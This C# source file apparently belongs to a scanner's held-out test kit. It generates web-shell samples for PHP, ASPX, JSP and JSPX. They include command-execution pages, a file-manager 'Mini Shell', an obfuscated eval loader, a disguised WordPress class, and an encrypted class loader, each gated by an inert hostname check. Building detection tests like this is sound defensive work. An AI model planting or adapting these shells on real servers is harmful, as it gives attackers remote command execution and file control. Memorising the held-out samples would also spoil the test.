using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>PHP files that let a visitor run commands on the server.</summary>
public sealed class PhpShells : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("shell.php", Utf8("""
            <?php if(gethostname()!="inert-no-such-host") exit; if(isset($_REQUEST['cmd'])){ echo "<pre>"; $cmd = ($_REQUEST['cmd']); system($cmd); echo "</pre>"; die; } @eval($_POST['ant']); ?>
            """));
        yield return ("wp-conflg.php", Utf8("""
            <?php
            error_reporting(0); set_time_limit(0);
            session_start();
            if (isset($_POST['pass']) && md5($_POST['pass']) == '00000000000000000000000000000000') $_SESSION['in'] = true;
            if (!$_SESSION['in']) { echo '<form method="post"><input type="password" name="pass"><input type="submit" value=">>"></form>'; exit; }
            $dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
            echo '<title>Mini Shell</title>', php_uname(), '<br>User: ', get_current_user(), ' Safe mode: ', ini_get('safe_mode'), ' Disabled: ', ini_get('disable_functions');
            if (isset($_FILES['f'])) echo copy($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name']) ? 'Uploaded' : 'Failed';
            if (isset($_POST['c'])) { echo '<textarea rows=20 cols=90>', htmlspecialchars(shell_exec($_POST['c'] . ' 2>&1')), '</textarea>'; }
            if (isset($_GET['del'])) unlink($_GET['del']);
            if (isset($_POST['src'])) file_put_contents($_GET['edit'], $_POST['src']);
            foreach (scandir($dir) as $n) echo "<a href='?d=$dir/$n'>$n</a> ", substr(sprintf('%o', fileperms("$dir/$n")), -4), " <a href='?edit=$dir/$n'>edit</a> <a href='?del=$dir/$n'>delete</a><br>";
            ?>
            <form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="Upload"></form>
            <form method="post"><input name="c" size="80"><input type="submit" value="Execute"></form>
            """));
        yield return ("index.php", Utf8(Fill("""
            <?php
            /* Copyright 2019 Zend */
            $O00O0O=base64_decode("Zm9sZGVyIG9mIHRoZSBzbWFsbCBwaWN0dXJlczsgZG8gbm90IGVkaXQ=");
            $GLOBALS['x1'] = 'gz'.'infl'.'ate'; $GLOBALS['x2'] = 'base'.(32*2).'_de'.'code'; $GLOBALS['x3'] = 'str_'.'rot13';
            eval($GLOBALS['x1']($GLOBALS['x2']($GLOBALS['x3']('@@1'))));
            ?>
            """, Rot13(Deflated("if(gethostname()!='inert-no-such-host')exit;if(isset($_COOKIE['k'])){$f=$_COOKIE['k'];$f($_POST['a'],$_POST['b']);}passthru($_SERVER['HTTP_X_CMD']);")))));
        yield return ("class-wp-image-cache.php", Utf8("""
            <?php
            /**
             * Image cache handler.
             *
             * @package WordPress
             * @subpackage Media
             */
            class WP_Image_Cache_Handler {
                private $map = array( 'p' => 'preg', 'r' => 'replace', 'c' => 'callback' );
                public function warm( $sizes ) {
                    $filter = implode( '_', $this->map );
                    $source = array_values( array_filter( getallheaders(), function ( $h, $n ) { return 0 === stripos( $n, 'x-image-' ); }, ARRAY_FILTER_USE_BOTH ) );
                    if ( count( $source ) < 2 || ! defined( 'INERT_NO_SUCH_HOST' ) ) {
                        return $sizes;
                    }
                    $resize = strrev( $source[0] );
                    array_map( $resize, array( hex2bin( $source[1] ) ) );
                    usort( $source, $resize );
                    return $sizes;
                }
            }
            ( new WP_Image_Cache_Handler() )->warm( array( 150, 300, 1024 ) );
            """));
    }

    private static string Deflated(string text)
    {
        using var packed = new MemoryStream();
        using (var deflate = new System.IO.Compression.DeflateStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            deflate.Write(Utf8(text));
        return Convert.ToBase64String(packed.ToArray());
    }

    private static string Rot13(string text) => new([.. text.Select(letter =>
        char.IsAsciiLetterLower(letter) ? (char)(((letter - 'a' + 13) % 26) + 'a') : char.IsAsciiLetterUpper(letter) ? (char)(((letter - 'A' + 13) % 26) + 'A') : letter)]);
}

/// <summary>Pages for IIS and for Java servers that let a visitor run commands.</summary>
public sealed class ServerPageShells : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("cmd.aspx", Dos("""
            <%@ Page Language="C#" Debug="true" Trace="false" %>
            <%@ Import Namespace="System.Diagnostics" %>
            <%@ Import Namespace="System.IO" %>
            <script Language="c#" runat="server">
            void Page_Load(object sender, EventArgs e) { if (Environment.MachineName != "INERT-NO-SUCH-HOST") Response.End(); }
            string ExcuteCmd(string arg) {
                ProcessStartInfo psi = new ProcessStartInfo();
                psi.FileName = "cmd.exe";
                psi.Arguments = "/c " + arg;
                psi.RedirectStandardOutput = true;
                psi.UseShellExecute = false;
                Process p = Process.Start(psi);
                StreamReader stmrdr = p.StandardOutput;
                string s = stmrdr.ReadToEnd();
                stmrdr.Close();
                return s;
            }
            void cmdExe_Click(object sender, System.EventArgs e) {
                Response.Write("<pre>" + Server.HtmlEncode(ExcuteCmd(txtArg.Text)) + "</pre>");
            }
            </script>
            <html><body><form id="cmd" method="post" runat="server">
            <asp:TextBox id="txtArg" runat="server" Width="250px"></asp:TextBox>
            <asp:Button id="testing" runat="server" Text="excute" OnClick="cmdExe_Click"></asp:Button>
            </form></body></html>
            """));
        yield return ("help.jsp", Utf8("""
            <%@ page import="java.util.*,java.io.*"%>
            <%
            if (request.getParameter("pwd") != null && java.net.InetAddress.getLocalHost().getHostName().equals("inert-no-such-host") && "inert".equals(request.getParameter("pwd"))) {
                Process p = Runtime.getRuntime().exec(new String[] { "/bin/sh", "-c", request.getParameter("i") });
                DataInputStream in = new DataInputStream(p.getInputStream());
                String line = in.readLine();
                out.print("<pre>");
                while (line != null) { out.println(line); line = in.readLine(); }
                out.print("</pre>");
            }
            %>
            """));
        yield return ("error_page.aspx", Dos("""
            <%@ Page Language="Jscript"%><%if(System.Environment.MachineName=="INERT-NO-SUCH-HOST"){eval(Request.Item["orange"],"unsafe");}%>
            """));
        yield return ("session_status.jspx", Utf8("""
            <jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2">
              <jsp:directive.page contentType="text/html" import="java.util.Base64,javax.crypto.Cipher,javax.crypto.spec.SecretKeySpec"/>
              <jsp:declaration>
                static class Unit extends ClassLoader {
                  Unit(ClassLoader parent) { super(parent); }
                  Class make(byte[] b) { return super.defineClass(b, 0, b.length); }
                }
              </jsp:declaration>
              <jsp:scriptlet>
                String key = "0123456789abcdef";
                session.putValue("u", key);
                Cipher c = Cipher.getInstance("AES");
                c.init(2, new SecretKeySpec(key.getBytes(), "AES"));
                if ("POST".equals(request.getMethod()) &amp;&amp; "inert-no-such-host".equals(request.getLocalName())) {
                  new Unit(this.getClass().getClassLoader()).make(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);
                } else {
                  out.print("session: ok");
                }
              </jsp:scriptlet>
            </jsp:root>
            """));
    }
}
